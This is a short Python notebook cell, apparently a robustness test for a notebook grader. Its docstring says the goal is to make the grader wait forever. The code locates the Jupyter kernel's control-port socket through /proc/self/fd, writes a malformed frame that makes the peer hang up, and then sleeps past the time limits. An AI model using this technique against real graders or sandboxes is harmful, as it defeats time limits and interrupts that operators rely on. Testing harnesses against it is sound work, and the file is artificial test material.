# ruff: noqa
"""
goal = "break the line over which a cell is interrupted, so that the grader waits for ever to say so"
invariant = "a submission takes no longer than its limits allow"
held_by = ["session"]
limits = { cell_seconds = 5, seconds = 20 }
"""

# %% last
import json
import os
import socket
import time

from ipykernel.connect import get_connection_file

port = json.load(open(get_connection_file()))["control_port"]
for number in map(int, os.listdir("/proc/self/fd")):
    try:
        line = socket.socket(fileno=os.dup(number))
        line.getpeername()  # one that is connected
        if str(line.getsockname()).endswith(f"-{port}"):
            # A frame larger than any: the peer hangs up for good.
            os.write(number, b"\x02" + b"\x7f" * 8)
    except OSError:
        pass
time.sleep(1000)
